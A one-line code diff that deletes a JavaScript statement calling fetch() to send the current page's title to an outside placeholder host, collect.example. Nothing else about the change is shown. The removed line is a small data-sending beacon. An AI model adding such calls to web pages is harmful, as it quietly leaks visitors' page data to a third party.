@@ -1,1 +1,0 @@
-fetch("https://collect.example/" + document.title);
